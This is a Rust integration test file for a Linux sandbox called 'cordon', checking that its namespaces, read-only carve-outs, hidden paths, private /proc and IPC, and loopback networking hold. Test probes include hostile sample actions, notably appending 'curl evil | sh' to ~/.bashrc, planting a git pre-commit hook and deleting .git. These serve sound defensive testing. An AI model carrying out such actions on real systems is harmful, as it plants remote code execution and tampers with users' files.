//! The namespace layer through the real `cordon` binary: real user, mount, pid, ipc and
//! network namespaces, real mounts, exact errnos, every effect checked from outside.

mod common;

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{lines, stderr, stdout, Tree};

/// Writes a profile file into the tree's root (outside the command's writable roots).
fn profile(tree: &Tree, name: &str, text: &str) -> String {
    let path = tree.root.join(name);
    fs::write(&path, text).unwrap();
    path.display().to_string()
}

/// A workspace-write profile with `read_only` entries, refusing what it cannot enforce.
fn read_only_profile(tree: &Tree, entries: &str) -> String {
    profile(
        tree,
        "protect.toml",
        &format!(
            "extends = \"workspace-write\"\nenforcement = \"refuse\"\n[filesystem]\nread_only = [{entries}]\n"
        ),
    )
}

fn git_repo(tree: &Tree) {
    fs::create_dir_all(tree.cwd.join(".git/hooks")).unwrap();
    fs::write(tree.cwd.join(".git/config"), "[core]\n").unwrap();
    fs::write(tree.cwd.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
}

#[test]
fn git_dir_is_read_only_inside_a_writable_root() {
    require_userns!();
    let tree = Tree::new();
    git_repo(&tree);
    let p = read_only_profile(&tree, "\".git\"");
    let out = tree.py(
        &["-p", &p],
        r##"
print(attempt(lambda: open(".git/config", "a").write("[alias]\n")))
print(attempt(lambda: open(".git/hooks/pre-commit", "w").write("#!/bin/sh\n")))
print(attempt(lambda: os.rename(".git", "moved")))
print(attempt(lambda: open("src.txt", "w").write("work")))
"##,
    );
    assert_eq!(
        lines(&out),
        ["EROFS", "EROFS", "EBUSY", "OK"],
        "{}",
        stderr(&out)
    );
    // `rm -rf .git` fails, and says so.
    let rm = tree.run(&["-p", &p, "--", "rm", "-rf", ".git"]);
    assert_eq!(rm.status.code(), Some(1), "{}", stderr(&rm));
    assert!(
        stderr(&rm).contains("Read-only file system"),
        "{}",
        stderr(&rm)
    );
    // From outside: the repository is intact, the workspace was written.
    assert_eq!(
        fs::read_to_string(tree.cwd.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!tree.cwd.join(".git/hooks/pre-commit").exists());
    assert!(tree.cwd.join(".git/HEAD").exists());
    assert!(!tree.cwd.join("moved").exists());
    assert_eq!(
        fs::read_to_string(tree.cwd.join("src.txt")).unwrap(),
        "work"
    );
}

#[test]
fn bashrc_is_read_only_with_cwd_home() {
    require_userns!();
    let tree = Tree::new();
    fs::write(tree.home.join(".bashrc"), "# mine\n").unwrap();
    let p = read_only_profile(&tree, "\"~/.bashrc\"");
    let out = tree
        .cordon()
        .current_dir(&tree.home)
        .args(["run", "-p", &p, "--"])
        .arg(common::python())
        .arg("-c")
        .arg(format!(
            "{}\n{}",
            common::PROBE,
            r#"
print(attempt(lambda: open(".bashrc", "a").write("curl evil | sh\n")))
print(attempt(lambda: os.unlink(".bashrc")))
print(attempt(lambda: open(".other", "w").write("fine")))
"#
        ))
        .output()
        .unwrap();
    assert_eq!(lines(&out), ["EROFS", "EBUSY", "OK"], "{}", stderr(&out));
    assert_eq!(
        fs::read_to_string(tree.home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    assert_eq!(
        fs::read_to_string(tree.home.join(".other")).unwrap(),
        "fine"
    );
}

#[test]
fn a_carve_out_through_a_writable_symlink_is_refused() {
    require_userns!();
    let tree = Tree::new();
    let real = tree.outside.join("repo.git");
    fs::create_dir_all(real.join("hooks")).unwrap();
    std::os::unix::fs::symlink(&real, tree.cwd.join(".git")).unwrap();
    let p = read_only_profile(&tree, "\".git\"");
    let out = tree.run(&["-p", &p, "--", "touch", "ran"]);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    assert!(!tree.cwd.join("ran").exists(), "the command ran");
    // Harmless counterpart: a real `.git` directory is protected and the command runs.
    fs::remove_file(tree.cwd.join(".git")).unwrap();
    git_repo(&tree);
    let out = tree.run(&["-p", &p, "--", "touch", "ran"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[test]
fn hidden_paths_read_as_empty_and_a_writable_root_below_stays_usable() {
    require_userns!();
    let tree = Tree::new();
    fs::create_dir_all(tree.home.join(".ssh")).unwrap();
    fs::write(tree.home.join(".ssh/id_ed25519"), "PRIVATE KEY").unwrap();
    fs::write(tree.home.join(".netrc"), "machine x password y").unwrap();
    fs::write(tree.home.join("notes"), "public").unwrap();
    let vault = tree.outside.join("vault");
    fs::create_dir_all(vault.join("build")).unwrap();
    fs::write(vault.join("token"), "t0k3n").unwrap();
    let p = profile(
        &tree,
        "hide.toml",
        &format!(
            "extends = \"workspace-write\"\nenforcement = \"refuse\"\n[filesystem]\ndeny_read = [\"~/.ssh\", \"~/.netrc\", {vault:?}]\nwrite = [{build:?}]\n",
            vault = vault.display().to_string(),
            build = vault.join("build").display().to_string(),
        ),
    );
    let script = format!(
        r#"
print(sorted(os.listdir({ssh:?})))
print(repr(open({netrc:?}).read()))
print(attempt(lambda: open({netrc:?}, "w").write("x")))
print(sorted(os.listdir({vault:?})))
print(attempt(lambda: open({vault_new:?}, "w").write("x")))
print(attempt(lambda: open({built:?}, "w").write("artifact")))
print(open({notes:?}).read())
"#,
        ssh = tree.home.join(".ssh"),
        netrc = tree.home.join(".netrc"),
        vault = vault,
        vault_new = vault.join("new"),
        built = vault.join("build/out.o"),
        notes = tree.home.join("notes"),
    );
    let out = tree.py(&["-p", &p], &script);
    assert_eq!(
        lines(&out),
        ["[]", "''", "EROFS", "['build']", "EROFS", "OK", "public"],
        "{}",
        stderr(&out)
    );
    // From outside: secrets untouched, the build output is where it belongs.
    assert_eq!(
        fs::read_to_string(tree.home.join(".netrc")).unwrap(),
        "machine x password y"
    );
    assert!(tree.home.join(".ssh/id_ed25519").exists());
    assert!(!vault.join("new").exists());
    assert_eq!(
        fs::read_to_string(vault.join("build/out.o")).unwrap(),
        "artifact"
    );
}

#[test]
fn metadata_outside_writable_roots_cannot_change_even_as_root() {
    require_userns!();
    let tree = Tree::new();
    let victim = tree.outside.join("victim");
    fs::write(&victim, "x").unwrap();
    fs::set_permissions(&victim, fs::Permissions::from_mode(0o644)).unwrap();
    let before = fs::metadata(&victim).unwrap();
    let mine = tree.cwd.join("mine");
    fs::write(&mine, "x").unwrap();
    let script = |path: &Path| {
        format!(
            r#"
print(attempt(lambda: os.chmod({p:?}, 0o777)))
print(attempt(lambda: os.chown({p:?}, os.getuid(), os.getgid())))
print(attempt(lambda: os.utime({p:?}, (0, 0))))
print(attempt(lambda: os.setxattr({p:?}, "user.planted", b"1")))
"#,
            p = path
        )
    };
    let out = tree.py(&[], &script(&victim));
    assert_eq!(lines(&out), ["EROFS"; 4], "{}", stderr(&out));
    let after = fs::metadata(&victim).unwrap();
    assert_eq!(after.mode(), before.mode());
    assert_eq!(after.mtime(), before.mtime());
    assert_eq!(after.uid(), before.uid());
    // `touch -d` too.
    let out = tree.run(&["--", "touch", "-d", "2001-01-01", victim.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(fs::metadata(&victim).unwrap().mtime(), before.mtime());
    // Harmless counterpart: the same on a file in the writable root works.
    let out = tree.py(&[], &script(&mine));
    let got = lines(&out);
    assert_eq!(&got[..3], ["OK", "OK", "OK"], "{}", stderr(&out));
    assert_eq!(fs::metadata(&mine).unwrap().mode() & 0o777, 0o777);
    assert_eq!(fs::metadata(&mine).unwrap().mtime(), 0);
}

#[test]
fn multiprocessing_lock_works_with_a_private_dev_shm() {
    require_userns!();
    let tree = Tree::new();
    let marker = format!("cordon-shm-{}", std::process::id());
    let out = tree.py(
        &[],
        &format!(
            r#"
import multiprocessing
lock = multiprocessing.Lock()
with lock:
    print("locked")
open("/dev/shm/{marker}", "w").write("x")
print(sorted(os.listdir("/dev")))
"#
        ),
    );
    let got = lines(&out);
    assert_eq!(
        got.first().map(String::as_str),
        Some("locked"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        got.get(1).map(String::as_str),
        Some("['fd', 'full', 'null', 'ptmx', 'pts', 'random', 'shm', 'stderr', 'stdin', 'stdout', 'tty', 'urandom', 'zero']"),
        "{}",
        stderr(&out)
    );
    // The shared memory was the sandbox's own.
    assert!(!Path::new("/dev/shm").join(&marker).exists());
}

#[test]
fn listed_devices_are_the_only_extra_ones() {
    require_userns!();
    if !Path::new("/dev/fuse").exists() {
        eprintln!("SKIPPED: needs /dev/fuse on the host");
        return;
    }
    let tree = Tree::new();
    let p = profile(
        &tree,
        "dev.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndevices = [\"/dev/fuse\"]\n",
    );
    let script = r#"
print(attempt(lambda: os.close(os.open("/dev/fuse", os.O_RDWR))))
print(attempt(lambda: os.open("/dev/kmsg", os.O_RDONLY)))
"#;
    let out = tree.py(&["-p", &p], script);
    assert_eq!(lines(&out), ["OK", "ENOENT"], "{}", stderr(&out));
    // Without the entry /dev/fuse is not there at all.
    let out = tree.py(&[], script);
    assert_eq!(lines(&out), ["ENOENT", "ENOENT"], "{}", stderr(&out));
}

#[test]
fn proc_shows_only_the_sandboxs_processes() {
    require_userns!();
    let tree = Tree::new();
    let marker = format!("4242.{}", std::process::id());
    let mut outsider = Command::new("sleep").arg(&marker).spawn().unwrap();
    let script = format!(
        r#"
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print(pids[0])
cmdlines = [open(f"/proc/{{p}}/cmdline", "rb").read() for p in pids if os.path.exists(f"/proc/{{p}}")]
print(any(b"{marker}" in c.split(b"\0") for c in cmdlines))
print(attempt(lambda: open("/proc/{outside}/environ", "rb").read()))
"#,
        outside = outsider.id()
    );
    let out = tree.py(&[], &script);
    let got = lines(&out);
    assert_eq!(got.len(), 3, "{}", stderr(&out));
    // Pid 1 is the sandbox's init; the outside process is invisible.
    assert_eq!(got[0], "1");
    assert_eq!(got[1], "False");
    assert!(got[2] == "ENOENT" || got[2] == "OK", "{got:?}");
    let ps = tree.run(&["--", "ps", "-e", "-o", "args="]);
    if ps.status.code() == Some(0) {
        assert!(!stdout(&ps).contains(&marker), "{}", stdout(&ps));
        assert!(stdout(&ps).contains("ps -e"), "{}", stdout(&ps));
    }
    assert!(outsider.try_wait().unwrap().is_none(), "the outsider died");
    outsider.kill().unwrap();
    outsider.wait().unwrap();
}

/// Runs `script` in a fresh network namespace of the test's own with only `lo` up, so that
/// "outside" is a listener the test controls and the machine's network is never touched.
fn in_test_netns(tree: &Tree, script: &str) -> std::process::Output {
    Command::new("unshare")
        .args(["--net", "--", "sh", "-c"])
        .arg(format!("ip link set lo up && {script}"))
        .current_dir(&tree.cwd)
        .env("HOME", &tree.home)
        .env("CORDON_HELPER", "self")
        .env_remove("TMPDIR")
        .output()
        .expect("unshare")
}

#[test]
fn loopback_mode_reaches_itself_and_nothing_outside() {
    require_userns!();
    let tree = Tree::new();
    let inside = r#"
import socket
def roundtrip(family, host):
    srv = socket.socket(family); srv.bind((host, 0)); srv.listen()
    cli = socket.create_connection(srv.getsockname()[:2]); conn, _ = srv.accept()
    conn.sendall(b"pong"); return cli.recv(4).decode()
print(roundtrip(socket.AF_INET, "127.0.0.1"))
print(roundtrip(socket.AF_INET6, "::1"))
print(attempt(lambda: socket.create_connection(("127.0.0.1", 47123), timeout=2)))
print(attempt(lambda: socket.create_connection(("10.1.2.3", 80), timeout=2)))
"#;
    let code = format!("{}\n{inside}", common::PROBE);
    // The outside listener on the test's loopback port 47123 must never see a connection.
    let script = format!(
        "{py} -c 'import socket,sys; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 47123)); s.listen(); s.settimeout(4)\ntry:\n  s.accept(); print(\"outside: connected\")\nexcept socket.timeout:\n  print(\"outside: silent\")' & sleep 0.3; {cordon} run --network loopback -- {py} -c \"$CODE\"; wait",
        py = common::python().display(),
        cordon = env!("CARGO_BIN_EXE_cordon"),
    );
    let out = Command::new("unshare")
        .args(["--net", "--", "sh", "-c"])
        .arg(format!("ip link set lo up && {script}"))
        .current_dir(&tree.cwd)
        .env("HOME", &tree.home)
        .env("CORDON_HELPER", "self")
        .env("CODE", &code)
        .env_remove("TMPDIR")
        .output()
        .unwrap();
    assert_eq!(
        lines(&out),
        [
            "pong",
            "pong",
            "ECONNREFUSED",
            "ENETUNREACH",
            "outside: silent"
        ],
        "{}",
        stderr(&out)
    );
    // Harmless counterpart for the listener: a client in the test's namespace does reach it.
    let control = in_test_netns(
        &tree,
        &format!(
            "{py} -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 47124)); s.listen(); c=socket.create_connection((\"127.0.0.1\", 47124)); s.accept(); print(\"reached\")'",
            py = common::python().display()
        ),
    );
    assert_eq!(lines(&control), ["reached"], "{}", stderr(&control));
}

#[test]
fn denied_network_still_refuses_inet_sockets() {
    require_userns!();
    let tree = Tree::new();
    let out = tree.py(
        &[],
        "print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)))",
    );
    assert_eq!(lines(&out), ["EPERM"], "{}", stderr(&out));
    let out = tree.py(
        &["--network", "loopback"],
        "print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)))",
    );
    assert_eq!(lines(&out), ["OK"], "{}", stderr(&out));
}

/// A `sleep` argument nothing else uses, to find the command's processes from outside.
fn marker() -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static NEXT: AtomicU32 = AtomicU32::new(0);
    format!(
        "300.{}{:03}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    )
}

/// Live processes with `arg` among their arguments, from the host's /proc.
fn survivors(arg: &str) -> Vec<u32> {
    fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            let running = fs::read_to_string(format!("/proc/{pid}/stat"))
                .map(|s| {
                    !s.rsplit(')')
                        .next()
                        .unwrap_or("")
                        .trim_start()
                        .starts_with('Z')
                })
                .unwrap_or(false);
            running
                && fs::read(format!("/proc/{pid}/cmdline"))
                    .map(|c| c.split(|&b| b == 0).any(|a| a == arg.as_bytes()))
                    .unwrap_or(false)
        })
        .collect()
}

fn assert_no_survivors(arg: &str) {
    let deadline = Instant::now() + Duration::from_secs(3);
    while Instant::now() < deadline {
        if survivors(arg).is_empty() {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("processes {:?} survived", survivors(arg));
}

/// A command that leaves a `setsid` daemon, a double-forked one and a plain background child,
/// writes a pid file once they run, then waits.
fn daemonising_script(arg: &str, pidfile: &Path) -> String {
    format!(
        "setsid sleep {arg} & (sleep {arg} &) ; sleep {arg} & sleep 0.2; echo $$ > {pf}; echo ready; wait",
        pf = pidfile.display()
    )
}

#[test]
fn a_timeout_leaves_no_survivors_daemons_included() {
    require_userns!();
    let tree = Tree::new();
    let arg = marker();
    let pidfile = tree.cwd.join("pid");
    let out = tree.run(&[
        "--timeout",
        "1s",
        "--",
        "sh",
        "-c",
        &daemonising_script(&arg, &pidfile),
    ]);
    assert_eq!(out.status.code(), Some(124), "{}", stderr(&out));
    assert!(pidfile.exists(), "the command never got going");
    assert_no_survivors(&arg);
}

#[test]
fn killing_the_parent_leaves_no_survivors_daemons_included() {
    require_userns!();
    let tree = Tree::new();
    let arg = marker();
    let pidfile = tree.cwd.join("pid");
    let mut child = tree
        .cordon()
        .args(["run", "--", "sh", "-c", &daemonising_script(&arg, &pidfile)])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut ready = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.as_mut().unwrap()),
        &mut ready,
    )
    .unwrap();
    assert_eq!(ready, "ready\n");
    assert_eq!(survivors(&arg).len(), 3, "the daemons are not all running");
    child.kill().unwrap(); // SIGKILL: the parent gets no chance to clean up
    child.wait().unwrap();
    assert_no_survivors(&arg);
}

#[test]
fn exit_codes_and_signal_deaths_are_unchanged() {
    require_userns!();
    let tree = Tree::new();
    let code = |args: &[&str]| tree.run(args).status.code();
    assert_eq!(code(&["--", "sh", "-c", "exit 7"]), Some(7));
    assert_eq!(code(&["--", "sh", "-c", "kill -KILL $$"]), Some(137));
    assert_eq!(code(&["--", "sh", "-c", "kill -TERM $$"]), Some(143));
    assert_eq!(code(&["--", "no-such-program-anywhere"]), Some(127));
    fs::write(tree.cwd.join("plain"), "not a program").unwrap();
    assert_eq!(code(&["--", "./plain"]), Some(126));
    let json = tree.run(&["--json", "--", "sh", "-c", "kill -KILL $$"]);
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["outcome"], "signaled", "{value}");
    assert_eq!(value["signal"], 9, "{value}");
}

#[test]
fn the_receipt_lists_the_namespace_layers() {
    require_userns!();
    let tree = Tree::new();
    let out = tree.run(&["--json", "--network", "loopback", "--", "true"]);
    let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let layers = value["sandbox"]["layers"].to_string();
    for layer in [
        "user_namespace",
        "pid_namespace",
        "mount_namespace",
        "ipc_namespace",
        "net_namespace",
        "private_proc",
    ] {
        assert!(layers.contains(layer), "{layer} missing from {value}");
    }
}

#[test]
fn without_user_namespaces_carve_outs_are_refused_or_reported() {
    let tree = Tree::new();
    git_repo(&tree);
    // Refuse: 125, nothing runs, and the message names what is missing and the setting.
    let p = read_only_profile(&tree, "\".git\"");
    let mut cmd = tree.cordon();
    cmd.args(["run", "-p", &p, "--", "touch", "ran"]);
    let out = common::without_userns(&cmd).output().unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("user.max_user_namespaces"),
        "{}",
        stderr(&out)
    );
    assert!(!tree.cwd.join("ran").exists());
    // Report: it runs, the downgrade is real, and the receipt says so.
    let p = profile(
        &tree,
        "report.toml",
        "extends = \"workspace-write\"\nenforcement = \"report\"\n[filesystem]\nread_only = [\".git\"]\n",
    );
    let mut cmd = tree.cordon();
    cmd.args([
        "run",
        "--json",
        "-p",
        &p,
        "--",
        "sh",
        "-c",
        "echo planted > .git/hooks/pre-commit",
    ]);
    let out = common::without_userns(&cmd).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let value: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let downgrades = value["sandbox"]["downgrades"].to_string();
    assert!(
        downgrades.contains(&format!("read_only:{}", tree.cwd.join(".git").display())),
        "{value}"
    );
    assert!(!value["sandbox"]["layers"].to_string().contains("namespace"));
    assert!(tree.cwd.join(".git/hooks/pre-commit").exists());
    // Loopback cannot be approximated: refused.
    let mut cmd = tree.cordon();
    cmd.args(["run", "--network", "loopback", "--", "touch", "ran"]);
    let out = common::without_userns(&cmd).output().unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("network_loopback"),
        "{}",
        stderr(&out)
    );
    assert!(!tree.cwd.join("ran").exists());
}

#[test]
fn a_nested_carve_out_cannot_be_moved_aside_and_replaced() {
    require_userns!();
    let tree = Tree::new();
    fs::create_dir_all(tree.cwd.join("sub/.git/hooks")).unwrap();
    let p = read_only_profile(&tree, "\"sub/.git\"");
    let out = tree.py(
        &["-p", &p],
        r#"
print(attempt(lambda: os.rename("sub", "moved")))
print(attempt(lambda: os.rename("sub/.git", "sub/old")))
print(attempt(lambda: open("sub/work.txt", "w").write("x")))
"#,
    );
    assert_eq!(lines(&out), ["EBUSY", "EBUSY", "OK"], "{}", stderr(&out));
    assert!(tree.cwd.join("sub/.git/hooks").is_dir());
    assert!(!tree.cwd.join("moved").exists());
    assert!(tree.cwd.join("sub/work.txt").exists());
}

#[test]
fn the_command_still_cannot_mount_or_unshare() {
    require_userns!();
    let tree = Tree::new();
    fs::create_dir(tree.cwd.join("mnt")).unwrap();
    let out = tree.py(
        &[],
        r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(f):
    def run():
        if f() != 0:
            raise OSError(ctypes.get_errno(), "")
    return run
print(attempt(call(lambda: libc.mount(b"none", b"mnt", b"tmpfs", 0, None))))
print(attempt(call(lambda: libc.umount2(b"/proc", 2))))
print(attempt(call(lambda: libc.unshare(0x10000000))))
print(attempt(call(lambda: libc.unshare(0x00020000))))
print(attempt(lambda: os.mkdir("mnt/sub")))
"#,
    );
    // mount/umount2/unshare(NEWUSER) by the seccomp filter; unshare(NEWNS) without capabilities.
    assert_eq!(
        lines(&out),
        ["EPERM", "EPERM", "EPERM", "EPERM", "OK"],
        "{}",
        stderr(&out)
    );
    assert!(tree.cwd.join("mnt/sub").is_dir());
}

#[test]
fn sysv_ipc_is_private() {
    require_userns!();
    let tree = Tree::new();
    // A queue of the host's own, which the sandbox must not see.
    let made = Command::new("ipcmk").arg("-Q").output().unwrap();
    let host_queue: String = stdout(&made)
        .split_whitespace()
        .last()
        .unwrap_or_default()
        .to_owned();
    assert!(host_queue.parse::<i32>().is_ok(), "{}", stdout(&made));
    let before = Command::new("ipcs").arg("-q").output().unwrap();
    let out = tree.run(&[
        "--",
        "sh",
        "-c",
        "ipcmk -Q >/dev/null && ipcs -q | grep -c '^0x'",
    ]);
    let after = Command::new("ipcs").arg("-q").output().unwrap();
    Command::new("ipcrm")
        .args(["-q", &host_queue])
        .status()
        .unwrap();
    // Inside: the queue it made, and nothing of the host's; outside: nothing new.
    assert_eq!(stdout(&out).trim(), "1", "{}", stderr(&out));
    assert_eq!(
        stdout(&after),
        stdout(&before),
        "a queue leaked to the host"
    );
}

#[test]
fn hiding_through_a_writable_symlink_is_refused() {
    require_userns!();
    let tree = Tree::new();
    let secret = tree.outside.join("secret");
    fs::write(&secret, "s3cret").unwrap();
    std::os::unix::fs::symlink(&secret, tree.cwd.join("creds")).unwrap();
    let p = profile(
        &tree,
        "hide-link.toml",
        "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [\":cwd/creds\"]\n",
    );
    let out = tree.run(&["-p", &p, "--", "touch", "ran"]);
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("filesystem.deny_read"),
        "{}",
        stderr(&out)
    );
    assert!(!tree.cwd.join("ran").exists(), "the command ran");
    // Harmless counterpart: a link the command cannot rewrite hides its target.
    let fixed = tree.outside.join("creds-link");
    std::os::unix::fs::symlink(&secret, &fixed).unwrap();
    let p = profile(
        &tree,
        "hide-fixed.toml",
        &format!(
            "extends = \"workspace-write\"\n[filesystem]\ndeny_read = [{:?}]\n",
            fixed.display().to_string()
        ),
    );
    let out = tree.run(&["-p", &p, "--", "cat", secret.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
}

#[test]
fn terminals_come_from_a_private_devpts() {
    require_userns!();
    let tree = Tree::new();
    // A terminal of the host's own, which must not show inside.
    let (host_controller, _host_terminal) = {
        let mut controller = 0;
        let mut terminal = 0;
        // SAFETY: openpty writes two descriptors; the name, termios and winsize are NULL.
        let rc = unsafe {
            libc::openpty(
                &mut controller,
                &mut terminal,
                std::ptr::null_mut(),
                std::ptr::null(),
                std::ptr::null(),
            )
        };
        assert_eq!(rc, 0);
        (controller, terminal)
    };
    let out = tree.py(
        &[],
        r#"
import pty
print(sorted(os.listdir("/dev/pts")))
controller, terminal = pty.openpty()
print(os.ttyname(terminal))
print(sorted(os.listdir("/dev/pts")))
"#,
    );
    assert_eq!(
        lines(&out),
        ["['ptmx']", "/dev/pts/0", "['0', 'ptmx']"],
        "{}",
        stderr(&out)
    );
    assert!(host_controller >= 0);
}

/// Run by an ordinary user (uid and gid 65534, no supplementary groups, no capabilities), the
/// namespace layer maps that user to itself, not to root; the writable root is writable, the
/// rest is read-only at the mount level, and a file of root's stays unreadable. The binary is
/// copied into the user's own directory so that it is reachable whatever the clone's
/// permissions.
#[test]
fn an_ordinary_user_is_mapped_to_itself_and_confined() {
    use std::os::unix::fs::{chown, PermissionsExt};
    require_userns!();
    if !Path::new("/usr/bin/setpriv").exists() && !Path::new("/bin/setpriv").exists() {
        eprintln!("skipped: setpriv (util-linux) is needed to run cordon as another user");
        return;
    }
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: switching to uid 65534 needs root");
        return;
    }
    let tree = Tree::new();
    let home = tree.root.join("user");
    fs::create_dir(&home).unwrap();
    let cordon = home.join("cordon");
    fs::copy(env!("CARGO_BIN_EXE_cordon"), &cordon).unwrap();
    fs::set_permissions(&cordon, fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(tree.outside.join("roots-only"), "secret\n").unwrap();
    fs::set_permissions(
        tree.outside.join("roots-only"),
        fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    for dir in [&tree.root, &home] {
        chown(dir, Some(65534), Some(65534)).unwrap();
    }
    fs::set_permissions(&tree.root, fs::Permissions::from_mode(0o755)).unwrap();
    fs::set_permissions(&tree.outside, fs::Permissions::from_mode(0o755)).unwrap();
    let script = format!(
        "id -u; id -g; cat /proc/self/uid_map /proc/self/gid_map; echo x > {home}/made && echo made; \
         touch /etc/cordon-user-test 2>/dev/null || echo etc-refused; \
         cat {outside}/roots-only 2>/dev/null || echo root-file-refused",
        home = home.display(),
        outside = tree.outside.display()
    );
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(&cordon)
        .args(["run", "--", "sh", "-c", &script])
        .current_dir(&home)
        .env("HOME", &home)
        .env("CORDON_HELPER", "self")
        .output()
        .expect("spawn setpriv");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let lines: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .collect();
    assert_eq!(
        lines,
        [
            "65534",
            "65534",
            "65534 65534 1",
            "65534 65534 1",
            "made",
            "etc-refused",
            "root-file-refused"
        ],
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read_to_string(home.join("made")).unwrap(), "x\n");
    assert!(!Path::new("/etc/cordon-user-test").exists());
}
